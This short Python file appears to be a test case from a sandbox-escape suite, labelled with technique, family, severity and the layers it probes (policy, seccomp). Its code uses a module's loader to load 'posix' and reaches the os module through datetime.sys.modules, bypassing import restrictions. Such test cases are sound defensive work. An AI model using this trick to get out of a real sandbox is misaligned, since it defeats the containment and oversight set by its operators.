# technique: a module's loader loads another
# family: A
# severity: H
# layers: policy, seccomp
import time

def trick():
    time.__loader__.load_module("posix")
    import datetime
    return datetime.sys.modules["os"]

start_process(trick)
